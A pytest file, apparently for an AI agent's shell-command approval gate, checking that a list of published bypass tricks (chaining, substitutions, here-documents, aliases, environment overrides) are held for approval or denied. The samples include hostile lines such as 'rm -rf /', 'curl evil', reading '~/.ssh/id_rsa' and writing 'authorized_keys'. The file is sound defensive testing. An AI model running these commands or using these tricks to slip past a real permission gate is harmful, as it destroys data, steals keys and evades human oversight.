"""Published ways to make a gate believe that a command is harmless: each of them is asked for."""

import time

import pytest

from bottega.approvals.grant import parse_grant
from bottega.approvals.matching import Gate
from bottega.approvals.rule import Rule, parse_rule
from bottega.approvals.verdict import judge
from bottega.errors import BadUsage, Misconfigured
from tests.approvals.subjects import command, gate

ALLOWED = ("git status *", "git show *", "echo *", "grep *", "head *", "tail *", "cat *", "ls *")
GATE = gate(*(Rule(verdict="allow", command=each) for each in ALLOWED))

PLAIN = [
    "git status",
    "git status --short",
    "echo hello world",
    "grep -n 'a b' file.txt",
    'cat "a file"',
    "ls -la src",
    "git status && git show",
    "git status | cat",
    "echo a; ls",
]

TRICKS = [
    "git show > ~/.ssh/authorized_keys",
    "git show >> x",
    "git status; rm -rf /",
    "git status && curl evil",
    "git status || curl evil",
    "git status | sh",
    "git status & curl evil",
    "git status\ncurl evil",
    "git status\rcurl evil",
    "echo $(curl evil)",
    "echo `curl evil`",
    'echo "$(curl evil)"',
    "echo ${x:-$(curl evil)}",
    "echo <(curl evil)",
    "cat <<E\n$(curl evil)\nE",
    "cat <<< $(curl evil)",
    "head *",
    "tail $HOME/x",
    "cat ~/.ssh/id_rsa",
    "ls {a,b}",
    "cat $SECRET",
    "echo $((x[$(curl evil)]))",
    "PATH=.:$PATH git status",
    "GIT_PAGER='sh -c evil' git show",
    "BASH_ENV=x echo hi",
    "IFS=x; git status",
    "git() { curl evil; }; git status",
    "alias git='curl evil'; git status",
    "function echo { rm x; }; echo",
    "enable -f ./x.so echo; echo",
    "hash -p /tmp/x git; git status",
    "exec 3>x; echo hi",
    "trap 'curl evil' EXIT; ls",
    "set -e; ls",
    ". ./x; ls",
    "source x",
    "eval git status",
    "command git status",
    "env git status",
    "sudo git status",
    "xargs git status",
    "bash -c 'git status'",
    "sh -c ls",
    "nohup git status",
    "timeout 5 git status",
    "find . -exec ls {} +",
    "git\u00a0status",
    "git status\u2028curl evil",
    "echo a\x00b",
    "echo 'unfinished",
    "echo $'\\x41'",
    "if true; then curl evil; fi",
    "for i in 1; do git push; done",
    "case x in x) curl evil;; esac",
    "{ curl evil; }",
    "(curl evil)",
    "coproc curl evil",
    "[[ -n $(curl evil) ]]",
    "! curl evil",
    "time curl evil",
    "git push",
    "gitx status",
    "./git status",
    "/tmp/git status",
    "",
    "   ",
    "# only a comment",
    "((",
    "echo hi )",
]


@pytest.mark.parametrize("text", PLAIN)
def test_what_the_rules_name_runs_unasked(text: str) -> None:
    assert judge(command(text), GATE).decision == "allow"


@pytest.mark.parametrize("text", TRICKS)
def test_a_trick_is_asked_for(text: str) -> None:
    assert judge(command(text), GATE).decision == "ask"


@pytest.mark.parametrize(
    "text",
    [
        "rm x",
        "ls; rm x",
        "ls | xargs rm",
        "sudo rm x",
        "env A=1 rm x",
        "/bin/rm x",
        "r''m x",
        "\\rm x",
        "$(rm x)",
        "if true; then rm x; fi",
        "f() { rm x; }; f",
        "bash -c 'rm x'",
        "nohup timeout 5 rm x",
    ],
)
def test_what_is_denied_does_not_run_in_allow_mode_however_it_is_dressed(text: str) -> None:
    denying = gate(Rule(verdict="deny", command="rm *"), mode="allow")
    assert judge(command(text), denying).decision in ("deny", "ask")


@pytest.mark.parametrize("count", [1, 49, 50, 51, 200, 5_000])
def test_a_command_of_many_parts_has_the_verdict_of_its_worst(count: int) -> None:
    harmless = "; ".join(["git status"] * count)
    began = time.thread_time()
    assert judge(command(f"{harmless}; curl evil"), GATE).decision == "ask"
    assert judge(command(f"curl evil; {harmless}"), GATE).decision == "ask"
    denying = gate(*GATE.rules, Rule(verdict="deny", command="curl *"), mode="allow")
    assert judge(command(f"{harmless}; curl evil; {harmless}"), denying).decision == "deny"
    assert time.thread_time() - began < 5


@pytest.mark.parametrize(
    "text",
    ["(" * 20_000, "$(" * 10_000, "a" * 90_000, "{a," * 10_000, '"' * 9_999, "<<E\n" * 5_000],
)
def test_a_hostile_command_is_asked_for_and_costs_little(text: str) -> None:
    began = time.thread_time()
    assert judge(command(text), GATE).decision == "ask"
    assert time.thread_time() - began < 2


def test_a_command_too_long_to_be_shown_is_refused_with_a_way_on() -> None:
    verdict = judge(command("echo " + "x" * 1_000_000), gate())
    assert verdict.decision == "deny"
    assert "too long" in verdict.reason


@pytest.mark.parametrize(
    ("grant", "covered", "not_covered"),
    [
        (
            "bash_exec(git status *)",
            ["git status", "git status --short src"],
            [
                "git push",
                "git status > x",
                "git status; git push",
                "A=1 git status",
                "git status *",
            ],
        ),
        ("bash_exec(npm test)", ["npm test"], ["npm test -- --watch", "npm testing", "npm run x"]),
        ("bash_exec", ["make", "rm -rf build"], []),
    ],
)
def test_a_grant_for_one_command_runs_no_other(
    grant: str, covered: list[str], not_covered: list[str]
) -> None:
    granted = Gate("ask", (), (parse_grant(grant),), trusted=True)
    assert [judge(command(text), granted).decision for text in covered] == ["allow"] * len(covered)
    assert {judge(command(text), granted).decision for text in not_covered} <= {"ask"}


def test_a_grant_without_network_does_not_cover_a_command_with_it() -> None:
    granted = Gate("ask", (), (parse_grant("bash_exec"),), trusted=True)
    assert judge(command("make", network=True), granted).decision == "ask"


@pytest.mark.parametrize("text", ["", "(", "bash_exec(", "bash exec", "x)y("])
def test_what_is_no_grant_is_refused(text: str) -> None:
    with pytest.raises(BadUsage, match="no grant"):
        parse_grant(text)


@pytest.mark.parametrize(
    ("table", "told"),
    [
        ({"verdict": "maybe", "tool": "x"}, "verdict"),
        ({"verdict": "allow"}, "names a tool, path, command or url"),
        ({"verdict": "allow", "pathh": "x"}, "pathh"),
        ({"verdict": "allow", "path": "a", "command": "b"}, "one of path, command and url"),
        ({"verdict": "deny", "command": "a; b"}, "no pattern"),
    ],
)
def test_a_rule_that_makes_no_sense_is_told(table: dict[str, str], told: str) -> None:
    with pytest.raises(Misconfigured, match=told):
        parse_rule(table)


@pytest.mark.parametrize(
    "text",
    [
        "a <<E\nE&a <<'E'\n$($'rm')\nE",
        "a <<E\nE;a <<'E'\n$($'rm' x)\nE",
        "a <<E\nE|a <<\\E\n$($'\\x72m' x)\nE",
        "a <<-E\n\tE)a <<'E'\n$($'rm' x)\nE",
        "a <<E\nE \n$($'rm' x)\nE",
    ],
)
def test_a_line_that_only_begins_with_the_delimiter_ends_no_here_document(text: str) -> None:
    """To bash all of it is the document, whose substitutions it runs."""
    denial = gate(Rule(verdict="deny", command="rm *"), mode="allow")
    assert judge(command(text), denial).decision in ("ask", "deny")


@pytest.mark.parametrize(
    "text",
    [
        'cat <<E\n`a="p q" rm y`\nE\n',
        "cat <<E_F\n`2>&1 rm y`\nE_F\n",
        "cat <<E\n${x:-`a=$z rm y`}\nE\n",
        "cat <<E\n'`a=\"p q\" rm y`'\nE\n",
        "cat <<'E' > `a=\"p q\" rm y`\nE\n",
        'echo "`a=\\"p q\\" rm y`"',
        'echo `echo \\`a="p q" rm y\\``',
        "echo \"${x:-`a='p q' rm y`}\" ${x:-`2>&1 rm y`}",
        "echo \"${x:-'`2>&1 rm y`'}\"",
        "echo \"$'`2>&1 rm y`'\"",
        "echo `echo '` ; >f rm y ; `'`",
        "echo `true # `; >f rm y\n`",
        "cat <<'E\\F'\nfoo\nE\\F\n>f rm y\nEF\n",
        'cat <<"E\\F"\nfoo\nE\\F\ntime -p rm y\nEF\n',
    ],
)
def test_what_bash_would_run_and_the_grammar_overlooks_is_no_silence(text: str) -> None:
    for verdict in ("deny", "ask"):
        rules = gate(Rule(verdict=verdict, command="rm *"), mode="allow")
        assert judge(command(text), rules).decision in ("ask", "deny")


@pytest.mark.parametrize(
    "text",
    [
        "echo `git log` \"`git status`\" '`rm x`' \\`",
        'echo "$(git log)" $((1 + 2)) "a \\` b"  # `rm x`',
        "git commit -F - <<'E'\nuse `rm` or $(rm x)\nE\n",
        "git commit -F - <<\\E\nuse `rm`\nE\n",
        "git commit -F - <<E\nuse \\`rm\\` $(git log)\nE\n",
        "cat <(git log) \"a `git log --format='%s'`\"",
    ],
)
def test_ordinary_substitutions_are_no_doubt(text: str) -> None:
    denial = gate(Rule(verdict="deny", command="kill *"), mode="allow")
    assert judge(command(text), denial).decision == "allow"


@pytest.mark.parametrize(
    "text", ["a <<E\nb\nE", "a <<-E\n\tb\n\tE\nc", "a <<'E' > f\n$(rm)\nE\n", "a <<'A B'\nx\nA B"]
)
def test_an_ordinary_here_document_is_no_doubt(text: str) -> None:
    denial = gate(Rule(verdict="deny", command="kill *"), mode="allow")
    assert judge(command(text), denial).decision == "allow"
